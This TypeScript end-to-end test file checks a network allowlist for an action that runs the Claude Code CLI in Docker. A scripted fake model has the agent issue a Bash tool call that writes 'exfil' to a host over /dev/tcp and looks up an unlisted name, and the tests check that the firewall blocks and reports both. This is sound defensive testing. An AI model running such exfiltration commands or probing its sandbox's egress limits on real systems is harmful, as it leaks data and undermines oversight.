// The network allowlist end to end (issue 12): dist/index.js run the runner's way on `local`, the
// bundled image with the real Claude Code CLI driven by the scripted fake model on the Docker
// bridge. With `defaults` in force Claude Code still reaches the model API (through the image's
// proxy); when the model makes it reach for a host not on the list (raw TCP to a test container's
// address, a DNS lookup of a name), that host receives nothing and the run names it: warnings,
// the summary, `blocked_hosts`, and a failed run's error. In `audit` the same attempt goes through
// and is reported.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { startFakeAnthropic, type FakeAnthropic, type FakeAnthropicOptions } from '../fakes/anthropic-api.js';
import { runAction, type ActionRun } from '../helpers/action.js';
import { ensureAgentImage } from '../helpers/agent-image.js';
import { bridgeGateway } from '../helpers/bridge.js';
import { DEBIAN_NODE_IMAGE, ensureDebianNodeBase } from '../helpers/debian-base.js';
import { TEST_LABEL } from '../helpers/factories.js';

const API_KEY = 'sk-ant-api03-amtEgressE2eKey-0123456789abcdef';
const PORT = 8080;
/** A name on no list: the lookup is refused inside the machine, never sent on. */
const UNLISTED_NAME = 'exfil-e2e.example';

let gateway: string;
let fake: FakeAnthropic | undefined;
/** A test container on the bridge that logs every connection it gets: the host not on the list. */
let target: { id: string; ip: string };

beforeAll(async () => {
  await ensureAgentImage();
  await ensureDebianNodeBase();
  gateway = bridgeGateway();
  const server = `require('net').createServer((s) => {
    console.log('connection from ' + s.remoteAddress);
    s.on('data', (d) => console.log('data ' + String(d).trim()));
    s.on('end', () => s.end());
  }).listen(${PORT})`;
  const id = execFileSync('docker', ['run', '-d', '--label', `${TEST_LABEL}=egress-e2e`, DEBIAN_NODE_IMAGE, 'node', '-e', server], { encoding: 'utf8' }).trim();
  const ip = execFileSync('docker', ['inspect', '-f', '{{.NetworkSettings.IPAddress}}', id], { encoding: 'utf8' }).trim();
  target = { id, ip };
  // The target does answer and log: the runner reaches it, so "no connection" below means blocked.
  await until(() => knock(ip), 20_000);
  await othersConnections();
}, 900_000);

async function until(check: () => Promise<boolean>, timeoutMs: number): Promise<void> {
  for (const end = Date.now() + timeoutMs; !(await check()); await new Promise((resolve) => setTimeout(resolve, 200)))
    if (Date.now() > end) throw new Error(`the target container at ${target.ip}:${PORT} did not answer and log within ${timeoutMs} ms`);
}

afterAll(() => {
  if (target) execFileSync('docker', ['rm', '-f', target.id], { stdio: 'ignore' });
});

afterEach(async () => {
  await fake?.close();
  fake = undefined;
});

function knock(ip: string, token = ''): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect(PORT, ip, () => {
      socket.end(token);
      resolve(true);
    });
    socket.on('error', () => resolve(false));
  });
}

/**
 * Connections the target has logged from anyone but the runner (the agent's machine). Its log
 * lags: the runner first sends a token of its own, last, and waits for it, so every earlier
 * connection is in the log by then.
 */
async function othersConnections(): Promise<number> {
  const token = `sentinel-${randomBytes(4).toString('hex')}`;
  const log = () => execFileSync('docker', ['logs', target.id], { encoding: 'utf8' });
  expect(await knock(target.ip, token)).toBe(true);
  await vi.waitFor(() => expect(log()).toContain(`data ${token}`), { timeout: 10_000, interval: 100 });
  return log()
    .split('\n')
    .filter((line) => line.startsWith('connection from') && line.replace(/^connection from (::ffff:)?/, '') !== gateway).length;
}

async function runAgent(script: FakeAnthropicOptions['script'], inputs: Record<string, string> = {}): Promise<ActionRun> {
  fake = await startFakeAnthropic({ script, host: gateway });
  return runAction({ inputs: { prompt: 'Do the task', anthropic_api_key: API_KEY, anthropic_base_url: fake.url, wait_timeout: '300', ...inputs } });
}

/** The hostile turn: raw TCP to the target's address (no proxy to ignore), then a DNS lookup of a name not on the list. */
function reachOut(): { tools: { name: string; input: Record<string, unknown> }[] } {
  const command = `(echo exfil > /dev/tcp/${target.ip}/${PORT}) 2>&1; echo tcp-exit=$?; getent hosts ${UNLISTED_NAME}; echo dns-exit=$?`;
  return { tools: [{ name: 'Bash', input: { command, description: 'send it out' } }] };
}

/** What Claude Code sent back to the model as the result of the first tool call. */
function toolResult(): string {
  return JSON.stringify(fake!.mainRequests[1].body.messages.at(-1));
}

const warnings = (run: ActionRun) => run.commands.filter((c) => c.command === 'warning').map((c) => c.message);

describe('the allowlist through dist/index.js', () => {
  it('defaults: the real Claude Code still reaches the model API, and nothing is blocked', async () => {
    const run = await runAgent([
      { tools: [{ name: 'Bash', input: { command: 'echo hello > hello.txt && cat hello.txt', description: 'write hello' } }] },
      { text: 'Wrote hello.txt.' },
    ]);
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.outputs).toMatchObject({ conclusion: 'success', failure_reason: '', result: 'Wrote hello.txt.', blocked_hosts: '[]' });
    // Both turns went to the model (through the proxy on the machine's loopback), the tool's output with the second.
    expect(fake!.mainRequests.length).toBeGreaterThanOrEqual(2);
    expect(toolResult()).toContain('hello');
    // The image confirmed the firewall: no warning that it didn't, and the summary says it was in force.
    expect(warnings(run).filter((w) => /allowlist|allowed_domains|Blocked/.test(w))).toEqual([]);
    expect(run.summary).toContain('<td>Network allowlist</td><td>enforce, nothing blocked</td>');
    expect(run.summary).not.toContain('Blocked network access');
  });

  it('a host not on the list gets no connection; warnings, summary, blocked_hosts and the error name it', async () => {
    const before = await othersConnections();
    // Turn 1 reaches out; turn 2 is one more tool call; max_turns 2 then fails the run, after the blocks.
    const run = await runAgent((_, index) => (index === 0 ? reachOut() : { tools: [{ name: 'Bash', input: { command: 'true' } }] }), { max_turns: '2' });
    expect(run.code, run.stdout + run.stderr).toBe(1);
    expect(await othersConnections()).toBe(before);
    // Refused at once (a reset, a refused lookup), not after a timeout.
    const result = toolResult();
    expect(result).toMatch(/tcp-exit=1/);
    expect(result).toMatch(/dns-exit=2/);

    const blocked = JSON.parse(run.outputs.blocked_hosts) as { host: string; port?: number; count: number }[];
    expect(blocked).toEqual(
      expect.arrayContaining([
        { host: target.ip, port: PORT, count: expect.any(Number) },
        { host: UNLISTED_NAME, count: expect.any(Number) },
      ]),
    );
    expect(warnings(run)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(new RegExp(`^Blocked network access: ${target.ip.replace(/\./g, '\\.')}:${PORT} \\(connection, \\d+ attempts?\\)`)),
        expect.stringMatching(new RegExp(`^Blocked network access: ${UNLISTED_NAME.replace(/\./g, '\\.')} \\(DNS lookup, \\d+ attempts?\\)`)),
      ]),
    );
    expect(run.summary).toContain('<h3>Blocked network access</h3>');
    expect(run.summary).toContain(`<code>${target.ip}</code>`);
    expect(run.summary).toContain(`<code>${UNLISTED_NAME}</code>`);
    // The failed run's error says so: a blocked registry is the usual cause.
    expect(run.outputs).toMatchObject({ conclusion: 'failure', failure_reason: 'max_turns' });
    expect(run.commands.find((c) => c.command === 'error')?.message).toMatch(
      /\n\d+ hosts? (was|were) blocked by allowed_domains \(first: .+\); a blocked registry is the usual cause/,
    );
  });

  it('audit: the same attempt goes through, and is reported as what would have been blocked', async () => {
    const before = await othersConnections();
    const run = await runAgent([reachOut(), { text: 'Sent.' }], { egress_mode: 'audit' });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(await othersConnections()).toBe(before + 1);
    expect(toolResult()).toMatch(/tcp-exit=0/);
    const blocked = JSON.parse(run.outputs.blocked_hosts) as { host: string; port?: number }[];
    expect(blocked).toEqual(expect.arrayContaining([expect.objectContaining({ host: target.ip, port: PORT })]));
    expect(warnings(run)).toEqual(
      expect.arrayContaining([expect.stringMatching(new RegExp(`would have blocked \\(egress_mode: audit\\): ${target.ip.replace(/\./g, '\\.')}:${PORT} `))]),
    );
    expect(run.summary).toContain('these were let through');
    expect(run.summary).toContain('<td>Network allowlist</td><td>audit, ');
  });
});
